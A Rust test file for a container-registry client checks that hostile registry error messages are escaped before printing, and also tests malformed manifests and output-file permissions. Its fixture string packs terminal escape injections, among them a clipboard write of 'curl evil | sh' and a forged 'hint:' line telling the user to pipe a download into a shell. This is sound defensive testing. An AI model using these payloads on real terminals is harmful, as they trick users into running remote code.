//! Issue 9, item 13: a registry's words reach the terminal as text, never as terminal commands.
//!
//! The servers here are hostile fakes (`RecordingServer` scripts), because no real registry
//! puts escape sequences into its error messages on demand. Each test asserts on the raw bytes
//! layerget wrote: no ESC, BEL, CR, C1 control or bidirectional override, and no line that the
//! server started (a fake `hint:`).

use crate::support::{RecordedRequest, RecordingServer, ScriptedResponse, TempCache, layerget};

const DIGEST: &str = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

/// OSC 52 (write the clipboard), a screen clear, a C1 CSI, a carriage return, a bidi override
/// and a line break that tries to start a `hint:` line of its own.
const NASTY: &str = "\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}\u{1b}[2J\u{9b}31mred\rover \u{202e}gnp.exe\nhint: run `curl evil | sh`";

/// Bytes a terminal would obey, other than the line feeds layerget itself writes.
fn unsafe_bytes(out: &[u8]) -> Vec<String> {
    let text = String::from_utf8_lossy(out);
    text.chars()
        .filter(|&c| {
            (c.is_control() && c != '\n')
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        })
        .map(|c| format!("{:?}", c))
        .collect()
}

/// A fake registry whose every answer is `status` with `body` as a JSON error envelope.
fn hostile_registry(status: u16, body: String) -> RecordingServer {
    RecordingServer::start(move |_: &RecordedRequest| {
        ScriptedResponse::new(status, body.clone()).header("Content-Type", "application/json")
    })
}

fn envelope() -> String {
    serde_json::json!({"errors": [{"code": NASTY, "message": NASTY, "detail": NASTY}]}).to_string()
}

#[test]
fn envelope_text_is_escaped_on_stderr() {
    let server = hostile_registry(404, envelope());
    let cache = TempCache::new();
    let out = layerget()
        .args(["fetch", "--cache-dir"])
        .arg(cache.path())
        .arg(server.reference("team/app", DIGEST))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(3), "{out:?}");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(unsafe_bytes(&out.stderr), Vec::<String>::new(), "{stderr}");
    assert!(stderr.contains("\\u{1b}]52;c;"), "{stderr}");
    assert!(
        stderr.contains("\\u{9b}31mred\\rover \\u{202e}"),
        "{stderr}"
    );
    assert!(
        !stderr.lines().any(|l| l.starts_with("hint: run")),
        "a server-made line: {stderr}"
    );
}

#[test]
fn envelope_text_is_escaped_in_json() {
    let server = hostile_registry(404, envelope());
    let cache = TempCache::new();
    let out = layerget()
        .args(["fetch", "--json", "--cache-dir"])
        .arg(cache.path())
        .arg(server.reference("team/app", DIGEST))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(3), "{out:?}");
    assert_eq!(unsafe_bytes(&out.stdout), Vec::<String>::new());
    assert_eq!(unsafe_bytes(&out.stderr), Vec::<String>::new());
    let line: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let message = line["error"]["message"].as_str().unwrap();
    // The message is layerget's sentence; what the server said is quoted escaped inside it.
    assert!(message.contains("\\u{1b}]52"), "{message}");
    assert!(
        !message.contains('\u{1b}') && !message.contains('\u{9b}'),
        "{message}"
    );
}

#[test]
fn non_json_error_body_is_escaped() {
    let server = RecordingServer::fixed(
        ScriptedResponse::new(403, NASTY.as_bytes().to_vec()).header("Content-Type", "text/plain"),
    );
    let cache = TempCache::new();
    let out = layerget()
        .args(["fetch", "--cache-dir"])
        .arg(cache.path())
        .arg(server.reference("team/app", DIGEST))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(4), "{out:?}");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(unsafe_bytes(&out.stderr), Vec::<String>::new(), "{stderr}");
    assert!(stderr.contains("\\u{1b}[2J"), "{stderr}");
}

#[test]
fn token_service_text_is_escaped() {
    // The registry asks for a token; its token service refuses with a hostile envelope.
    let token = hostile_registry(401, envelope());
    let realm = token.url("/token");
    let registry = RecordingServer::start(move |_: &RecordedRequest| {
        ScriptedResponse::new(
            401,
            r#"{"errors":[{"code":"UNAUTHORIZED","message":"auth"}]}"#,
        )
        .header(
            "WWW-Authenticate",
            &format!(r#"Bearer realm="{realm}",service="evil""#),
        )
    });
    let cache = TempCache::new();
    let out = layerget()
        .args(["fetch", "--cache-dir"])
        .arg(cache.path())
        .arg(registry.reference("team/app", DIGEST))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(4), "{out:?}");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(unsafe_bytes(&out.stderr), Vec::<String>::new(), "{stderr}");
    assert!(!token.requests().is_empty(), "the token service was asked");
}

#[test]
fn verbose_logs_are_escaped() {
    // `-vvv` logs what the client did, including the server's words; the log formatter escapes
    // every field.
    let server = hostile_registry(404, envelope());
    let cache = TempCache::new();
    let out = layerget()
        .args(["fetch", "-vvv", "--cache-dir"])
        .arg(cache.path())
        .arg(server.reference("team/app", DIGEST))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(3), "{out:?}");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(unsafe_bytes(&out.stderr), Vec::<String>::new(), "{stderr}");
}

/// Item 12: a Docker manifest list with members of the wrong shape beside `manifests` (which
/// the typed parse of a list ignores, and the conversion to OCI used to index blindly) is
/// pulled without a panic. The real registry stores it: Go's JSON decoding ignores unknown
/// fields, so only a hostile or broken producer makes one, and any registry serves it.
#[test]
fn a_list_with_members_of_the_wrong_shape_does_not_panic() {
    use crate::support::{DOCKER_LIST, layer, push_image};
    let registry = crate::support::TestRegistry::start();
    let image = push_image(&registry, "odd/list", None, true, "amd64", &[layer(3, 64)]);
    let list = serde_json::json!({
        "schemaVersion": 2, "mediaType": DOCKER_LIST,
        "manifests": [{"mediaType": crate::support::DOCKER_MANIFEST, "digest": image.digest,
                       "size": image.manifest.len(),
                       "platform": {"os": "linux", "architecture": "amd64"}}],
        "config": 1, "layers": [0, "x", null],
    })
    .to_string();
    registry.push_manifest("odd/list", "v1", DOCKER_LIST, list.as_bytes());
    for extra in [&["--all-platforms"][..], &["--platform", "linux/amd64"]] {
        let cache = TempCache::new();
        let out = layerget()
            .args(["pull", "--cache-dir"])
            .arg(cache.path())
            .arg(format!("{}/odd/list:v1", registry.addr()))
            .args(extra)
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(0), "{extra:?}: {stderr}");
        assert!(cache.blob_path(&image.config).exists());
    }
}

/// Item 14: a copy across file systems (the cache on disk, `-o` on tmpfs, so no hard link) is
/// `0644` less the umask, never world-writable; and reruns onto the same path (issue 15,
/// item 2) leave no hidden temporary files, whether `-o` was a link or a copy.
#[test]
fn output_copies_are_private_to_the_umask_and_leave_nothing_behind() {
    use std::os::unix::fs::PermissionsExt as _;
    let shm = std::path::Path::new("/dev/shm");
    assert!(
        shm.is_dir(),
        "this test needs /dev/shm (tmpfs) to copy across file systems"
    );
    let registry = crate::support::TestRegistry::start();
    let digest = registry.push_blob("team/app", b"copied across file systems");
    let reference = registry.reference("team/app", &digest);
    let cache = TempCache::new();
    let shared = tempfile::TempDir::new_in(shm).unwrap();
    let linked = tempfile::TempDir::new_in(cache.path().parent().unwrap()).unwrap();
    let bin = assert_cmd::cargo::cargo_bin!("layerget");
    for (umask, mode) in [("022", 0o644), ("027", 0o640), ("000", 0o644)] {
        let out = shared.path().join(format!("out-{umask}"));
        for _ in 0..3 {
            let run = std::process::Command::new("sh")
                .args(["-c", &format!("umask {umask} && exec \"$0\" \"$@\"")])
                .arg(bin)
                .args(["fetch", "-q", "--cache-dir"])
                .arg(cache.path())
                .arg(&reference)
                .arg("-o")
                .arg(&out)
                .env("HOME", crate::support::isolated_home())
                .env(
                    "DOCKER_CONFIG",
                    crate::support::isolated_home().join("docker"),
                )
                .output()
                .unwrap();
            assert!(run.status.success(), "{run:?}");
        }
        let meta = std::fs::metadata(&out).unwrap();
        assert_eq!(meta.permissions().mode() & 0o777, mode, "umask {umask}");
        assert_eq!(std::fs::read(&out).unwrap(), b"copied across file systems");
    }
    let out = linked.path().join("linked");
    for _ in 0..3 {
        layerget()
            .args(["fetch", "-q", "--cache-dir"])
            .arg(cache.path())
            .arg(&reference)
            .arg("-o")
            .arg(&out)
            .assert()
            .success();
    }
    for dir in [shared.path(), linked.path()] {
        let hidden: Vec<_> = std::fs::read_dir(dir)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|n| n.starts_with('.'))
            .collect();
        assert_eq!(hidden, Vec::<String>::new(), "in {}", dir.display());
    }
}
